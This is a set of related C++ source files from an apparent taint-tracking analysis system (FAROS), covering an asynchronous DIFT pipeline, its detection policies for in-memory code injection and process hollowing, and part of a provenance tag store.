    bt_elided_ = obs::Counter(producer_sink_.get(), obs::Ctr::kBtElidedBlocks);
    bt_hint_ = obs::Counter(producer_sink_.get(), obs::Ctr::kBtHintBlocks);
    elide_veto_ =
        obs::Counter(producer_sink_.get(), obs::Ctr::kRingElideVeto);
    windows_sent_ =
        obs::Counter(producer_sink_.get(), obs::Ctr::kRingWindows);
  }

  rings_.reserve(engines_.size());
  for (size_t i = 0; i < engines_.size(); ++i) {
    rings_.push_back(std::make_unique<vm::TraceRing>(ring_capacity));
  }
  consumers_.reserve(engines_.size());
  for (size_t i = 0; i < engines_.size(); ++i) {
    consumers_.emplace_back([this, i] { consumer_loop(i); });
  }
}

DiftPipeline::DiftPipeline(const os::Kernel& kernel, Options opts,
                           size_t ring_capacity)
    : DiftPipeline(kernel,
                   [&] {
                     std::vector<Options> v;
                     v.push_back(std::move(opts));
                     return v;
                   }(),
                   ring_capacity) {}

DiftPipeline::~DiftPipeline() { finish(); }

void DiftPipeline::drain() {
  for (auto& r : rings_) r->drain();
}

void DiftPipeline::finish() {
  if (finished_) return;
  finished_ = true;
  vm::DiftEvent end;
  end.kind = vm::DiftEvent::kEnd;
  for (auto& r : rings_) r->push(end);
  for (std::thread& t : consumers_) {
    if (t.joinable()) t.join();
  }
}

obs::MetricSnapshot DiftPipeline::metrics_snapshot() {
  if (!finished_) drain();
  obs::MetricSnapshot s = engines_[0]->metrics_snapshot();
  if (producer_sink_) {
    s.collected = true;
    const obs::MetricSnapshot p = producer_sink_->snapshot();
    for (u32 i = 0; i < obs::kCtrCount; ++i) s.counters[i] += p.counters[i];
    // Ring transfer counters. Record/window pushes are a pure function of
    // the event stream (deterministic); stalls/waits/depth are scheduling
    // artifacts and live past kFirstNondetCtr, outside every serialised
    // schema.
    const vm::TraceRingStats rs = rings_[0]->stats();
    s.counters[static_cast<u32>(obs::Ctr::kRingRecords)] += rs.records;
    s.counters[static_cast<u32>(obs::Ctr::kRingProducerStalls)] +=
        rs.producer_stalls;
    s.counters[static_cast<u32>(obs::Ctr::kRingConsumerWaits)] +=
        rs.consumer_waits;
    s.counters[static_cast<u32>(obs::Ctr::kRingMaxDepth)] =
        std::max(s.counters[static_cast<u32>(obs::Ctr::kRingMaxDepth)],
                 rs.max_depth);
  }
  return s;
}

void DiftPipeline::push_all(const vm::DiftEvent& d) {
  for (auto& r : rings_) r->push(d);
}

// ---------------------------------------------------------------------------
// Producer: instruction stream.

void DiftPipeline::on_run_begin() {
  // Windows stay cached across quanta. This is sound because every path
  // that changes guest memory bytes outside the instruction stream is a
  // monitor hook (packet/file/image delivery, kernel writes, frame
  // recycling on unmap) and every hook is a sync point that clears the
  // cache; guest stores are handled by the exact overlap test in
  // on_insn_retired; and cross-address-space VA aliasing is handled by
  // the per-entry cr3 check in capture_window. Between-quanta kernel work
  // that does NOT change bytes (scheduling, protection changes) cannot
  // stale a window. The async-vs-sync byte-diff gates (CI, full corpus)
  // pin this reasoning. Clearing here would be correct but costs a full
  // re-capture burst per quantum on window-heavy workloads.
}

void DiftPipeline::invalidate_windows(VAddr va, u32 len) {
  const u64 lo = va;
  const u64 hi = lo + len;
  for (WinEntry& e : win_cache_) {
    if (e.valid && lo < e.hi && e.lo < hi) e.valid = false;
  }
}

void DiftPipeline::capture_window(PAddr cr3, VAddr pc,
                                  const vm::AddressSpace& as) {
  WinEntry& e = win_cache_[(pc / vm::kInsnSize) & (kWinCacheSize - 1)];
  if (e.valid && e.cr3 == cr3 && e.pc == pc) return;  // consumer copy fresh

  // Exactly record_finding's live capture: the 96-byte window, else the
  // 8-byte fallback, else nothing (the consumer-side map miss then
  // degrades to the same unmapped-window shape the sync engine produces).
  constexpr u32 kBefore = 4 * vm::kInsnSize;
  constexpr u32 kAfter = 8 * vm::kInsnSize;
  VAddr code_base = pc >= kBefore ? pc - kBefore : 0;
  Bytes window(kBefore + kAfter);
  if (!as.copy_out(code_base, window, /*user=*/false).ok()) {
    window.assign(vm::kInsnSize, 0);
    if (!as.copy_out(pc, window, /*user=*/false).ok()) return;
    code_base = pc;
  }

  vm::DiftEvent h;
  h.kind = vm::DiftEvent::kWindow;
  h.cr3 = cr3;
  h.pc = pc;
  h.instr_index = code_base;
  h.imm = static_cast<u32>(window.size());
  const u32 nchunks = (h.imm + 63) / 64;
  for (auto& r : rings_) {
    r->push(h);
    for (u32 c = 0; c < nchunks; ++c) {
      vm::DiftEvent chunk;
      const u32 off = c * 64;
      std::memcpy(&chunk, window.data() + off, std::min<u32>(64, h.imm - off));
      r->push(chunk);
    }
  }
  windows_sent_.inc();
  e.cr3 = cr3;
  e.pc = pc;
  e.lo = code_base;
  e.hi = static_cast<u64>(code_base) + h.imm;
  e.valid = true;
  if (e.lo < win_lo_) win_lo_ = e.lo;
  if (e.hi > win_hi_) win_hi_ = e.hi;
}

void DiftPipeline::on_insn_retired(const vm::InsnEvent& ev,
                                   const vm::AddressSpace& as) {
  const Opcode op = ev.insn.op;

  // Resolve the record exactly as the synchronous engine does.
  vm::DiftEvent d;
  d.instr_index = ev.instr_index;
  d.cr3 = ev.cr3;
  d.pc = ev.pc;
  d.pc_pa = ev.pc_pa;
  d.op = static_cast<u8>(op);
  d.rd = ev.insn.rd;
  d.rs1 = ev.insn.rs1;
  d.rs2 = ev.insn.rs2;
  d.imm = ev.insn.imm;
  if (ev.mem) {
    d.flags |= vm::DiftEvent::kHasMem;
    if (ev.mem->is_write) d.flags |= vm::DiftEvent::kIsWrite;
    d.mem_va = ev.mem->va;
    d.mem_pa = ev.mem->pa;
    d.mem_size = ev.mem->size;
    const u32 off = ev.mem->va & ShadowMemory::kPageMask;
    if (off + ev.mem->size > ShadowMemory::kPageBytes) {
      auto t = as.translate(
          ev.mem->va + (ShadowMemory::kPageBytes - off),
          ev.mem->is_write ? vm::AccessType::kWrite : vm::AccessType::kRead,
          false);
      if (t) {
        d.mem_pa2 = *t;
        d.flags |= vm::DiftEvent::kCrossesPage;
      }
    }
  }

  u16& rm = regmask(ev.cr3);

  // A store into the byte range of a cached window forces re-capture (the
  // store has already applied, so memory holds the post-store bytes — the
  // same state the sync engine's live copy_out would observe at this
  // insn). The aggregate-span test rejects the common case in two
  // compares; only stores genuinely inside the span scan the cache.
  if (ev.mem && ev.mem->is_write && ev.mem->va < win_hi_ &&
      win_lo_ < static_cast<u64>(ev.mem->va) + ev.mem->size) {
    invalidate_windows(ev.mem->va, ev.mem->size);
  }

  // Memory/register maybe-bits this insn reads, on the PRE-insn filter
  // state — used by the capture decision, the page-exec pre-read, and the
  // filter update below.
  const bool mem_maybe =
      ev.mem && (frame_maybe(ev.mem->pa) ||
                 ((d.flags & vm::DiftEvent::kCrossesPage) != 0 &&
                  frame_maybe(d.mem_pa2)));
  u8 src = 0, base = 0;
  bool val_maybe = false;  // store only: stored value may carry provenance
  if (ev.mem) {
    if (ev.mem->is_write) {
      src = (op == Opcode::kPush) ? ev.insn.rs1 : ev.insn.rs2;
      base = (op == Opcode::kPush) ? static_cast<u8>(vm::SP) : ev.insn.rs1;
      val_maybe = (rm & reg_bit(src)) != 0 ||
                  (addr_deps_ && (rm & reg_bit(base)) != 0);
    } else {
      base = (op == Opcode::kPop) ? static_cast<u8>(vm::SP) : ev.insn.rs1;
    }
  }

  // Code-window capture for every *prospective* finding site: the filter
  // conditions are conservative supersets of the trigger conditions, so
  // every site record_finding can reach has a window stashed consumer-side
  // before its kInsn record arrives.
  bool want = fetch_rules_ && frame_maybe(ev.pc_pa);
  if (!want && ev.mem) {
    if (ev.mem->is_write) {
      want = store_rules_ && val_maybe;
    } else {
      want = load_rules_ &&
             (mem_maybe || (addr_deps_ && (rm & reg_bit(base)) != 0));
    }
  }
  if (!want && op == Opcode::kSyscall) {
    want = syscall_rules_ && (rm & kSyscallArgMask) != 0;
  }
  if (want) capture_window(ev.cr3, ev.pc, as);

  // Pre-read the store target's exec page flag when some rule will look.
  // The consumer reads the flag only when the store is actually tainted,
  // which implies val_maybe, so gating the page-table probe on the filter
  // loses nothing.
  if (ev.mem && ev.mem->is_write && need_page_exec_ && val_maybe &&
      (as.page_flags(ev.mem->va) & vm::kPteExec) != 0) {
    d.flags |= vm::DiftEvent::kPageExec;
  }

  // Filter update — Table I on the maybe-lattice. Anything not listed
  // writes no register. Invariant: actually-tainted implies bit set.
  switch (op) {
    case Opcode::kMovi:
    case Opcode::kAddPc:
      rm &= static_cast<u16>(~reg_bit(ev.insn.rd));
      break;
    case Opcode::kMov:
    case Opcode::kAddi:
    case Opcode::kSubi:
    case Opcode::kMuli:
    case Opcode::kAndi:
    case Opcode::kOri:
    case Opcode::kXori:
    case Opcode::kShli:
    case Opcode::kShri:
      if ((rm & reg_bit(ev.insn.rs1)) != 0) {
        rm |= reg_bit(ev.insn.rd);
      } else {
        rm &= static_cast<u16>(~reg_bit(ev.insn.rd));
      }
      break;
    case Opcode::kAdd:
    case Opcode::kSub:
    case Opcode::kMul:
    case Opcode::kDivu:
    case Opcode::kAnd:
    case Opcode::kOr:
    case Opcode::kXor:
    case Opcode::kShl:
    case Opcode::kShr:
      if ((op == Opcode::kXor || op == Opcode::kSub) &&
          ev.insn.rs1 == ev.insn.rs2) {
        rm &= static_cast<u16>(~reg_bit(ev.insn.rd));  // zero idiom
      } else if ((rm & (reg_bit(ev.insn.rs1) | reg_bit(ev.insn.rs2))) != 0) {
        rm |= reg_bit(ev.insn.rd);
      } else {
        rm &= static_cast<u16>(~reg_bit(ev.insn.rd));
      }
      break;
    case Opcode::kLd8:
    case Opcode::kLd16:
    case Opcode::kLd32:
    case Opcode::kPop:
      if (mem_maybe || (addr_deps_ && (rm & reg_bit(base)) != 0)) {
        rm |= reg_bit(ev.insn.rd);
      } else {
        rm &= static_cast<u16>(~reg_bit(ev.insn.rd));
      }
      break;
    case Opcode::kSt8:
    case Opcode::kSt16:
    case Opcode::kSt32:
    case Opcode::kPush:
      if (val_maybe && ev.mem) {
        mark_frame(ev.mem->pa);
        if ((d.flags & vm::DiftEvent::kCrossesPage) != 0) {
          mark_frame(d.mem_pa2);
        }
      }
      break;
    case Opcode::kCall:
    case Opcode::kCallr:
      rm &= static_cast<u16>(~reg_bit(vm::LR));
      break;
    case Opcode::kSyscall:
      rm &= static_cast<u16>(~reg_bit(vm::R0));
      break;
    default:
      break;
  }

  push_all(d);
}

bool DiftPipeline::try_elide_block(PAddr cr3, VAddr pc, PAddr start_pa,
                                   const vm::Instruction* insns, u32 count) {
  (void)pc;
  (void)insns;
  if (!block_cache_) return false;
  // Producer-side guard, strictly stronger than the engines' dynamic
  // guard: a clear register mask implies every engine's bank is clean, and
  // an unmarked code frame implies no tainted fetch exists (so bound fetch
  // rules cannot need per-insn events). Blocks the filter cannot clear go
  // instrumented — a detection no-op, only fast-path metrics shift.
  if (regmask(cr3) != 0) {
    elide_veto_.inc();
    return false;
  }
  if (fetch_rules_ && frame_maybe(start_pa)) {
    elide_veto_.inc();
    return false;
  }
  vm::DiftEvent d;
  d.kind = vm::DiftEvent::kBulk;
  d.cr3 = cr3;
  d.mem_pa = start_pa;
  d.imm = count;
  push_all(d);
  bt_elided_.inc();
  return true;
}

bool DiftPipeline::block_elide_hint(PAddr cr3, VAddr pc,
                                    const vm::Instruction* insns, u32 count) {
  (void)cr3;
  if (!summary_elide_ || !elide_hints_ || elide_hints_->empty()) return false;
  auto it = elide_hints_->find(pc);
  if (it == elide_hints_->end()) return false;
  for (const auto& [n, hash] : it->second) {
    if (n == count && vm::insn_seq_hash(insns, count) == hash) {
      bt_hint_.inc();
      return true;
    }
  }
  return false;
}

// ---------------------------------------------------------------------------
// Producer: monitor events (sync points).

void DiftPipeline::sync_point() {
  for (auto& r : rings_) r->drain();
  // Hooks may mutate guest memory (delivering packet/file/image bytes);
  // cached windows cannot be trusted across one.
  clear_window_cache();
}

void DiftPipeline::mark_va_range(const vm::AddressSpace& as, VAddr va,
                                 u32 len) {
  if (len == 0) return;
  const u64 end = static_cast<u64>(va) + len;
  u64 p = va;
  while (p < end) {
    if (auto pa = as.translate(static_cast<VAddr>(p), vm::AccessType::kRead,
                               false)) {
      mark_frame(*pa);
    }
    p = (p & ~static_cast<u64>(vm::kPageSize - 1)) + vm::kPageSize;
  }
}

void DiftPipeline::on_process_start(const osi::ProcessInfo& p) {
  sync_point();
  for (auto& e : engines_) e->on_process_start(p);
}

void DiftPipeline::on_process_exit(const osi::ProcessInfo& p, u32 exit_code) {
  sync_point();
  regmask_map_.erase(p.cr3);
  rm_cached_ = nullptr;
  for (auto& e : engines_) e->on_process_exit(p, exit_code);
}

void DiftPipeline::on_module_loaded(const osi::ModuleInfo& mod,
                                    const vm::AddressSpace& kernel_as) {
  sync_point();
  // The engine tags the addr field of each [hash u32, addr u32] export
  // entry; marking the whole entry array covers that.
  mark_va_range(kernel_as, mod.exports_va,
                4 + mod.export_count * 8);
  for (auto& e : engines_) e->on_module_loaded(mod, kernel_as);
}

void DiftPipeline::on_packet_to_guest(const osi::GuestXfer& xfer,
                                      const FlowTuple& flow,
                                      const osi::PacketMeta& meta) {
  sync_point();
  mark_xfer(xfer);
  for (auto& e : engines_) e->on_packet_to_guest(xfer, flow, meta);
}

void DiftPipeline::on_guest_send(const osi::GuestXfer& xfer,
                                 const FlowTuple& flow,
                                 const osi::PacketMeta& meta) {
  sync_point();
  mark_xfer(xfer);  // segment-shadow writebacks can re-tag buffer bytes
  for (auto& e : engines_) e->on_guest_send(xfer, flow, meta);
}

void DiftPipeline::on_file_read(const osi::GuestXfer& xfer, u32 file_id,
                                const std::string& path, u32 version,
                                u32 file_offset) {
  sync_point();
  mark_xfer(xfer);
  for (auto& e : engines_) {
    e->on_file_read(xfer, file_id, path, version, file_offset);
  }
}

void DiftPipeline::on_file_write(const osi::GuestXfer& xfer, u32 file_id,
                                 const std::string& path, u32 version,
                                 u32 file_offset) {
  sync_point();
  mark_xfer(xfer);  // the buffer itself gets the file tag
  for (auto& e : engines_) {
    e->on_file_write(xfer, file_id, path, version, file_offset);
  }
}

void DiftPipeline::on_image_mapped(const osi::ProcessInfo& proc,
                                   const vm::AddressSpace& as, VAddr base,
                                   u32 len, u32 file_id,
                                   const std::string& path, u32 version) {
  sync_point();
  mark_va_range(as, base, len);
  for (auto& e : engines_) {
    e->on_image_mapped(proc, as, base, len, file_id, path, version);
  }
}

void DiftPipeline::on_iat_resolved(const osi::ProcessInfo& proc,
                                   const vm::AddressSpace& as, VAddr slot_va) {
  sync_point();
  mark_va_range(as, slot_va, 4);
  for (auto& e : engines_) e->on_iat_resolved(proc, as, slot_va);
}

void DiftPipeline::on_cross_process_write(const osi::GuestXfer& src,
                                          const osi::GuestXfer& dst) {
  sync_point();
  mark_xfer(src);  // source bytes can gain the writer's process tag
  mark_xfer(dst);
  for (auto& e : engines_) e->on_cross_process_write(src, dst);
}

void DiftPipeline::on_atom_write(const osi::GuestXfer& xfer, u32 atom_id) {
  sync_point();
  mark_xfer(xfer);
  for (auto& e : engines_) e->on_atom_write(xfer, atom_id);
}

void DiftPipeline::on_atom_read(const osi::GuestXfer& xfer, u32 atom_id) {
  sync_point();
  mark_xfer(xfer);
  for (auto& e : engines_) e->on_atom_read(xfer, atom_id);
}

void DiftPipeline::on_kernel_write(const osi::GuestXfer& xfer) {
  sync_point();
  // Clears taint; the frames stay conservatively marked.
  for (auto& e : engines_) e->on_kernel_write(xfer);
}

void DiftPipeline::on_frame_recycled(PAddr frame_base) {
  sync_point();
  clear_frame(frame_base);
  for (auto& e : engines_) e->on_frame_recycled(frame_base);
}

// ---------------------------------------------------------------------------
// Consumer.

void DiftPipeline::consumer_loop(size_t idx) {
  vm::TraceRing& ring = *rings_[idx];
  FarosEngine& eng = *engines_[idx];
  for (;;) {
    const vm::DiftEvent* e = ring.front_wait();
    switch (e->kind) {
      case vm::DiftEvent::kInsn:
        eng.propagate(*e);
        ring.pop_front();
        break;
      case vm::DiftEvent::kBulk:
        eng.account_elided(e->cr3, e->mem_pa, e->imm);
        ring.pop_front();
        break;
      case vm::DiftEvent::kWindow: {
        const PAddr cr3 = e->cr3;
        const VAddr pc = e->pc;
        const auto code_base = static_cast<VAddr>(e->instr_index);
        const u32 len = e->imm;
        ring.pop_front();
        Bytes bytes(len);
        u32 off = 0;
        while (off < len) {
          const vm::DiftEvent* chunk = ring.front_wait();
          const u32 n = std::min<u32>(64, len - off);
          std::memcpy(bytes.data() + off, chunk, n);
          off += n;
          if (off >= len) {
            // Apply before releasing the final payload slot, so drain()
            // can never observe a half-applied window.
            eng.set_window(cr3, pc, code_base, std::move(bytes));
          }
          ring.pop_front();
        }
        break;
      }
      case vm::DiftEvent::kEnd:
      default:
        ring.pop_front();
        return;
    }
  }
}

}  // namespace faros::core
