// DiftPipeline — the decoupled DIFT pipeline: asynchronous taint
// propagation behind the synchronous interpreter.
//
// The hardware-DIFT architectures surveyed in PAPERS.md (Wahab et al.'s
// ARM coprocessor line) split execution from tag propagation: the main
// core runs the program and emits a compressed event trace; a decoupled
// unit consumes the trace and maintains the tag state. This class is that
// split in software. It attaches to a Machine in place of FarosEngine
// (machine.attach_cpu_plugin(&pipe); machine.add_monitor(&pipe)) and:
//
//  * PRODUCER (the interpreter thread): resolves every retired
//    instruction into a fixed-width vm::DiftEvent — physical addresses
//    pre-translated, store page-exec flags pre-read — and appends it to a
//    bounded SPSC ring per consumer. Elision-eligible inert blocks become
//    one bulk record instead of per-instruction records, preserving the
//    PR 7/9 fast paths.
//  * CONSUMER(S): one worker thread per attached FarosEngine replays the
//    stream through FarosEngine::propagate — the exact code path the
//    synchronous mode runs inline — against that engine's shadow state
//    and ruleset. Record-once/analyze-many: N engines with N different
//    policies consume one execution for the price of one run.
//
// Determinism contract (what keeps async verdicts byte-identical to the
// synchronous engine): the ring preserves the total retirement order;
// every semantic event (GuestMonitor hook) is a sync point — the producer
// drains the rings before touching any engine, so each engine observes
// exactly the interleaving of instructions and events the synchronous
// engine observes. Everything the consumer cannot recompute later
// (physical translations, page flags, code windows around prospective
// finding sites, process identity) is resolved by the producer at
// retirement time and shipped in-band.
//
// The producer decides block elision without consulting consumer shadow
// state, using a conservative taint filter (a per-CR3 register maybe-
// tainted mask plus a physical-frame maybe-tainted bitmap, both updated
// from the event stream it is itself emitting). The filter's "clean"
// verdict is definitive — filter-clean implies engine-clean — so a
// producer-approved elision is always one the synchronous guard would
// have approved; blocks the filter cannot prove clean are simply sent
// instrumented, which the consumer propagates to provably identical
// verdict/finding/provenance state (see DESIGN.md §3j).
#pragma once

#include <memory>
#include <thread>
#include <unordered_map>
#include <vector>

#include "core/engine.h"
#include "vm/trace_ring.h"

namespace faros::core {

class DiftPipeline : public vm::ExecHooks, public osi::GuestMonitor {
 public:
  /// One engine per Options entry (at least one); engines differ in
  /// ruleset/policy only — the shared elision decision assumes the
  /// propagation-relevant options (address deps, tag tracking) agree.
  DiftPipeline(const os::Kernel& kernel, std::vector<Options> optss,
               size_t ring_capacity = vm::TraceRing::kDefaultCapacity);
  DiftPipeline(const os::Kernel& kernel, Options opts = {},
               size_t ring_capacity = vm::TraceRing::kDefaultCapacity);
  ~DiftPipeline() override;

  DiftPipeline(const DiftPipeline&) = delete;
  DiftPipeline& operator=(const DiftPipeline&) = delete;

  /// Blocks until every consumer has processed every emitted record. On
  /// return the engines are quiescent and safe to inspect from the
  /// calling thread until the next instruction executes.
  void drain();

  /// Shuts the pipeline down: drains, sends the end sentinel, joins the
  /// consumer threads. Idempotent; the destructor calls it. After
  /// finish() the engines are plain single-threaded objects again.
  void finish();

  size_t engine_count() const { return engines_.size(); }
  FarosEngine& engine(size_t i = 0) { return *engines_[i]; }
  const FarosEngine& engine(size_t i = 0) const { return *engines_[i]; }

  /// Primary engine's snapshot with the producer-side cells and ring
  /// stats folded in (drains first). Producer and consumers account into
  /// disjoint sinks — the fold at snapshot time is what makes the cells
  /// safe without atomics; see the obs TSan test.
  obs::MetricSnapshot metrics_snapshot();

  /// Ring transfer stats for consumer `i` (valid after drain/finish).
  vm::TraceRingStats ring_stats(size_t i = 0) const {
    return rings_[i]->stats();
  }

  // --- vm::ExecHooks (producer side) ---
  void on_run_begin() override;
  void on_insn_retired(const vm::InsnEvent& ev,
                       const vm::AddressSpace& as) override;
  bool try_elide_block(PAddr cr3, VAddr pc, PAddr start_pa,
                       const vm::Instruction* insns, u32 count) override;
  bool block_elide_hint(PAddr cr3, VAddr pc, const vm::Instruction* insns,
                        u32 count) override;

  // --- osi::GuestMonitor (sync points; forwarded to every engine) ---
  void on_process_start(const osi::ProcessInfo& p) override;
  void on_process_exit(const osi::ProcessInfo& p, u32 exit_code) override;
  void on_module_loaded(const osi::ModuleInfo& mod,
                        const vm::AddressSpace& kernel_as) override;
  void on_packet_to_guest(const osi::GuestXfer& xfer, const FlowTuple& flow,
                          const osi::PacketMeta& meta = {}) override;
  void on_guest_send(const osi::GuestXfer& xfer, const FlowTuple& flow,
                     const osi::PacketMeta& meta = {}) override;
  void on_file_read(const osi::GuestXfer& xfer, u32 file_id,
                    const std::string& path, u32 version,
                    u32 file_offset) override;
  void on_file_write(const osi::GuestXfer& xfer, u32 file_id,
                     const std::string& path, u32 version,
                     u32 file_offset) override;
  void on_image_mapped(const osi::ProcessInfo& proc,
                       const vm::AddressSpace& as, VAddr base, u32 len,
                       u32 file_id, const std::string& path,
                       u32 version) override;
  void on_iat_resolved(const osi::ProcessInfo& proc,
                       const vm::AddressSpace& as, VAddr slot_va) override;
  void on_cross_process_write(const osi::GuestXfer& src,
                              const osi::GuestXfer& dst) override;
  void on_atom_write(const osi::GuestXfer& xfer, u32 atom_id) override;
  void on_atom_read(const osi::GuestXfer& xfer, u32 atom_id) override;
  void on_kernel_write(const osi::GuestXfer& xfer) override;
  void on_frame_recycled(PAddr frame_base) override;

 private:
  void consumer_loop(size_t idx);
  void push_all(const vm::DiftEvent& d);
  /// Monitor-hook prologue: drains every ring (engines quiescent, safe to
  /// forward the hook) and invalidates the window cache.
  void sync_point();

  // --- conservative producer-side taint filter ---
  // Register maybe-taint mask per CR3 (bit r set = register r may carry
  // provenance) mirroring Table-I on the maybe-lattice, plus a physical-
  // frame maybe-taint bitmap marked page-granularly by every taint-
  // inserting monitor hook and by maybe-tainted stores. Invariant:
  // actually-tainted implies marked; "all clear" is therefore proof.
  u16& regmask(PAddr cr3) {
    if (rm_cached_ && rm_cr3_ == cr3) return *rm_cached_;
    u16& m = regmask_map_[cr3];
    rm_cr3_ = cr3;
    rm_cached_ = &m;
    return m;
  }
  bool frame_maybe(PAddr pa) const {
    const u64 f = pa >> vm::kPageShift;
    return f < num_frames_ &&
           (frame_bits_[f >> 6] & (1ull << (f & 63))) != 0;
  }
  void mark_frame(PAddr pa) {
    const u64 f = pa >> vm::kPageShift;
    if (f < num_frames_) frame_bits_[f >> 6] |= 1ull << (f & 63);
  }
  void clear_frame(PAddr pa) {
    const u64 f = pa >> vm::kPageShift;
    if (f < num_frames_) frame_bits_[f >> 6] &= ~(1ull << (f & 63));
  }
  /// Marks every frame a [va, va+len) guest range touches.
  void mark_va_range(const vm::AddressSpace& as, VAddr va, u32 len);
  void mark_xfer(const osi::GuestXfer& xfer) {
    if (xfer.as) mark_va_range(*xfer.as, xfer.va, xfer.len);
  }

  // --- producer-side code-window capture ---
  // Sync record_finding snapshots code around the pc at retirement time;
  // the consumer has no address space, so the producer captures at the
  // same machine moment for every *prospective* finding site (a static-
  // rule-need × filter-maybe superset of actual sites) and ships the
  // bytes in-band. A tiny direct-mapped cache suppresses re-sends while
  // the bytes provably haven't changed: the cache is cleared every run()
  // quantum (fencing all between-quanta kernel work) and whenever a
  // guest store's byte range overlaps a cached window. Overlap is exact,
  // not page-granular: [win_lo_, win_hi_) is the aggregate VA span of
  // every cached window, so the common case — data stores away from code
  // — is rejected with two compares, and a store inside the span only
  // invalidates the entries it actually intersects. (Exactness matters:
  // guests that keep writable data on their code page would otherwise
  // thrash the cache into re-capturing every site per store.)
  struct WinEntry {
    PAddr cr3 = 0;
    VAddr pc = 0;
    u64 lo = 0, hi = 0;  // captured byte range [lo, hi)
    bool valid = false;
  };
  static constexpr u32 kWinCacheSize = 64;  // power of two
  void clear_window_cache() {
    for (WinEntry& e : win_cache_) e.valid = false;
    win_lo_ = ~0ull;
    win_hi_ = 0;
  }
  /// Store-overlap invalidation: drops cached windows intersecting
  /// [va, va+len). The aggregate span stays as-is (conservatively wide)
  /// until the next full clear.
  void invalidate_windows(VAddr va, u32 len);
  void capture_window(PAddr cr3, VAddr pc, const vm::AddressSpace& as);

  std::vector<std::unique_ptr<FarosEngine>> engines_;
  std::vector<std::unique_ptr<vm::TraceRing>> rings_;
  std::vector<std::thread> consumers_;
  bool finished_ = false;

  // Static rule-need bits, ORed across engines at construction.
  bool fetch_rules_ = false;    // any kTaintedFetch rule bound
  bool load_rules_ = false;     // any kTaintedLoad rule bound
  bool store_rules_ = false;    // any kTaintedStore/kExecPageWrite rule
  bool syscall_rules_ = false;  // any kSyscallArg rule bound
  bool need_page_exec_ = false; // some rule reads store page flags
  bool addr_deps_ = false;      // any engine propagates address deps
  bool block_cache_ = false;    // primary engine approves elision
  // Summary-elide hints (primary engine's options; stable storage).
  bool summary_elide_ = false;
  const std::map<VAddr, std::vector<std::pair<u32, u64>>>* elide_hints_ =
      nullptr;

  std::unordered_map<PAddr, u16> regmask_map_;
  PAddr rm_cr3_ = 0;
  u16* rm_cached_ = nullptr;
  u64 num_frames_ = 0;
  std::vector<u64> frame_bits_;

  WinEntry win_cache_[kWinCacheSize];
  u64 win_lo_ = ~0ull, win_hi_ = 0;  // aggregate span of cached windows

  /// Producer-thread sink, disjoint from the engines' consumer-thread
  /// sinks; folded into the primary snapshot (null when metrics off).
  std::unique_ptr<obs::MetricSink> producer_sink_;
  obs::Counter bt_elided_;
  obs::Counter bt_hint_;
  obs::Counter elide_veto_;
  obs::Counter windows_sent_;
};

}  // namespace faros::core
