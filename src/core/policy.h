// Security policies: the paper's "per security policy" answer to indirect
// flows. Instead of propagating through every address/control dependency,
// FAROS defines attack invariants as the *confluence* of tags of different
// types on one memory location, checked when a tainted instruction performs
// a load.
//
// Built-ins:
//  * netflow-export-confluence — the executing instruction's bytes carry a
//    netflow tag and the load target carries the export-table tag: data
//    from the network is being linked/loaded (the paper's hallmark of
//    in-memory injection).
//  * cross-process-export-confluence — the instruction's bytes carry tags
//    of two or more distinct processes (it was written into this process by
//    another) and the load target is the export table: covers process
//    hollowing and code injection even without a network origin
//    (Figure 10's case).
#pragma once

#include <memory>
#include <string>

#include "core/provenance.h"

namespace faros::core {

/// Evaluated on every load whose target byte(s) are tainted.
/// `fetch_prov` is the provenance of the executing instruction's bytes;
/// `target_prov` is the provenance of the bytes the load read.
class FlagPolicy {
 public:
  virtual ~FlagPolicy() = default;
  virtual const char* name() const = 0;
  virtual bool matches(const ProvStore& store, ProvListId fetch_prov,
                       ProvListId target_prov) const = 0;
};

class NetflowExportConfluencePolicy final : public FlagPolicy {
 public:
  const char* name() const override { return "netflow-export-confluence"; }
  bool matches(const ProvStore& store, ProvListId fetch_prov,
               ProvListId target_prov) const override {
    return store.contains_type(target_prov, TagType::kExportTable) &&
           store.contains_type(fetch_prov, TagType::kNetflow);
  }
};

class CrossProcessExportConfluencePolicy final : public FlagPolicy {
 public:
  const char* name() const override {
    return "cross-process-export-confluence";
  }
  bool matches(const ProvStore& store, ProvListId fetch_prov,
               ProvListId target_prov) const override {
    return store.contains_type(target_prov, TagType::kExportTable) &&
           store.process_count(fetch_prov) >= 2;
  }
};

}  // namespace faros::core
