// Security policies: the paper's "per security policy" answer to indirect
// flows. Instead of propagating through every address/control dependency,
// FAROS defines attack invariants as the *confluence* of tags of different
// types on one memory location, checked at trigger points in the DIFT path.
//
// Since the declarative rule engine (core/rules.h) the invariants are data:
// the built-ins — netflow-export-confluence, cross-process-export-
// confluence, and the optional tainted-code-write early warning — are
// RuleSpecs (see builtin_rules()), not classes. FlagPolicy remains as the
// host-code escape hatch: a C++ predicate evaluated at tainted-load,
// registered via FarosEngine::add_policy, for invariants the predicate
// grammar cannot express.
#pragma once

#include "core/provenance.h"

namespace faros::core {

/// Evaluated on every load whose target byte(s) are tainted.
/// `fetch_prov` is the provenance of the executing instruction's bytes;
/// `target_prov` is the provenance of the bytes the load read.
class FlagPolicy {
 public:
  virtual ~FlagPolicy() = default;
  virtual const char* name() const = 0;
  virtual bool matches(const ProvStore& store, ProvListId fetch_prov,
                       ProvListId target_prov) const = 0;
};

}  // namespace faros::core
