#include "core/provenance.h"

#include <algorithm>
#include <cassert>

namespace faros::core {

namespace {
const std::vector<ProvTag> kEmptyList;
}  // namespace

u64 ProvStore::hash_tags(const std::vector<ProvTag>& tags) {
  u64 h = 0xcbf29ce484222325ull;
  for (const ProvTag& t : tags) h = hash_combine(h, t.key());
  return h;
}

ProvListId ProvStore::intern(const std::vector<ProvTag>& tags) {
  std::vector<ProvTag> unique;
  unique.reserve(tags.size());
  for (const ProvTag& t : tags) {
    if (std::find(unique.begin(), unique.end(), t) == unique.end()) {
      unique.push_back(t);
      if (unique.size() >= cap_) break;
    }
  }
  return intern_unique(std::move(unique));
}

ProvListId ProvStore::intern_unique(std::vector<ProvTag> tags,
                                    ProvListId fallback) {
  if (tags.empty()) return kEmptyProv;
  u64 h = hash_tags(tags);
  auto& bucket = by_hash_[h];
  for (ProvListId id : bucket) {
    if (lists_[id - 1] == tags) return id;
  }
  if (lists_.size() >= max_lists_) {
    ++saturated_ops_;
    return fallback;
  }
  Meta meta;
  for (const ProvTag& t : tags) {
    meta.type_mask |= static_cast<u8>(1u << (static_cast<u8>(t.type()) - 1));
    if (t.type() == TagType::kProcess && meta.process_count < 255) {
      ++meta.process_count;
    }
